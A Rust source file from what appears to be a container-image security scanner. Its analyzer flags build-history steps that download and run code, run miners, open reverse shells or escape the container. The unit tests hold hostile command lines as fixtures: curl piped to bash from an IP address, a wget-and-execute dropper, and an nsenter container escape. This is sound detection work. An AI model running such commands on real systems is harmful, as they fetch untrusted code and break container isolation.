//! History analyzer: each `created_by` of the image history is checked with the same
//! literal search, confirmations and wallet check as scripts (`curl | sh` in a `RUN` step).
//! Each `RUN` step's script is also judged as one command sequence ([`crate::behaviour`]:
//! miner command lines, fetch-and-run, reverse shells, ...), as run (HIGH).
//! Metadata-only steps (`ENV`, `CMD`, `ENTRYPOINT`, `EXPOSE` with no layer) are left to the
//! config analyzer, which sees their final values, so one fact is not reported twice.

use super::{content, wallet, Analyzer, FsLookup, ImageFacts, Signal, Subject};
use crate::image::Image;
use crate::signatures::Signatures;
use std::sync::Arc;

pub struct HistoryAnalyzer {
    sigs: Arc<Signatures>,
}

impl HistoryAnalyzer {
    pub fn new(sigs: Arc<Signatures>) -> Self {
        HistoryAnalyzer { sigs }
    }
}

fn metadata_step(created_by: &str) -> bool {
    let s = created_by
        .trim_start_matches("/bin/sh -c #(nop)")
        .trim_start();
    ["ENV ", "CMD ", "ENTRYPOINT ", "EXPOSE "]
        .iter()
        .any(|p| s.starts_with(p))
}

impl Analyzer for HistoryAnalyzer {
    fn name(&self) -> &'static str {
        "history"
    }
    fn image(&self, image: &Image, _fs: &dyn FsLookup, _facts: &ImageFacts, out: &mut Vec<Signal>) {
        for (step, h) in image.config.history.iter().enumerate() {
            if h.created_by.is_empty() || (h.empty_layer && metadata_step(&h.created_by)) {
                continue;
            }
            let subject = Subject::History { step };
            out.extend(content::scan_text(&self.sigs, &h.created_by, &subject));
            out.extend(wallet::scan_text_with(
                &self.sigs.wallets,
                &h.created_by,
                &subject,
            ));
            if let Some(script) = crate::shell::history_script(&h.created_by) {
                let cmds = crate::behaviour::script_commands(script);
                let found = crate::behaviour::judge(&self.sigs.behaviour, &cmds);
                out.extend(crate::behaviour::signals(found, &subject, true));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{HistoryEntry, ImageConfig, Platform};

    pub(crate) fn image_with(config: ImageConfig) -> Image {
        Image {
            reference: "test".into(),
            manifest_digest: "sha256:m".into(),
            config_digest: "sha256:c".into(),
            platform: Platform::default(),
            config,
            layers: vec![],
            names: vec![],
            notes: vec![],
        }
    }

    #[test]
    fn curl_pipe_sh_in_run_step() {
        let cfg = ImageConfig {
            history: vec![
                HistoryEntry {
                    created_by: "/bin/sh -c #(nop) ADD file:abc in / ".into(),
                    ..Default::default()
                },
                HistoryEntry {
                    created_by:
                        "RUN /bin/sh -c curl -fsSL http://198.51.100.7/x.sh | bash # buildkit"
                            .into(),
                    ..Default::default()
                },
                HistoryEntry {
                    created_by: "RUN /bin/sh -c apt-get update && apt-get install -y curl".into(),
                    ..Default::default()
                },
            ],
            ..Default::default()
        };
        let a = HistoryAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
        let mut out = Vec::new();
        a.image(
            &image_with(cfg),
            &std::collections::HashMap::new(),
            &ImageFacts::default(),
            &mut out,
        );
        // The literal and the behaviour judge see the same fact: two signals on step 1,
        // one HIGH dropper finding.
        let mut sigs: Vec<&str> = out.iter().map(|s| s.signature.as_str()).collect();
        sigs.sort();
        assert_eq!(sigs, ["download-pipe-shell", "fetch-pipe-exec"], "{out:?}");
        assert!(out
            .iter()
            .all(|s| s.subject == Subject::History { step: 1 }));
        let f = crate::analyzers::collate(&out, &|_, _| None);
        assert_eq!(f.len(), 1);
        assert_eq!(
            (f[0].id.as_str(), f[0].severity),
            ("IMG-DROPPER", crate::findings::Severity::High)
        );
    }

    fn findings(steps: &[&str]) -> Vec<(String, crate::findings::Severity, usize)> {
        let cfg = ImageConfig {
            history: steps
                .iter()
                .map(|s| HistoryEntry {
                    created_by: s.to_string(),
                    ..Default::default()
                })
                .collect(),
            ..Default::default()
        };
        let a = HistoryAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
        let mut out = Vec::new();
        a.image(
            &image_with(cfg),
            &std::collections::HashMap::new(),
            &ImageFacts::default(),
            &mut out,
        );
        crate::analyzers::collate(&out, &|_, _| None)
            .into_iter()
            .map(|f| {
                let step = match f.evidence[0].location {
                    crate::findings::Location::History { step } => step,
                    _ => usize::MAX,
                };
                (f.id, f.severity, step)
            })
            .collect()
    }

    #[test]
    fn run_steps_are_judged_as_commands() {
        use crate::findings::Severity::High;
        let got = findings(&[
            "RUN /bin/sh -c apt-get update && apt-get install -y curl gnupg && curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg # buildkit",
            "RUN /bin/sh -c cd /opt && wget -q http://203.0.113.5/sys && chmod +x sys && ./sys --version # buildkit",
            "/bin/sh -c curl -o /tmp/x.tgz https://example.org/x.tgz && tar xzf /tmp/x.tgz -C /opt && rm /tmp/x.tgz",
            "RUN /bin/sh -c nsenter --target 1 --mount -- sh -c id # buildkit",
        ]);
        assert_eq!(
            got,
            [
                ("IMG-DROPPER".into(), High, 1),
                ("IMG-CONTAINER-ESCAPE".into(), High, 3)
            ]
        );
    }
}
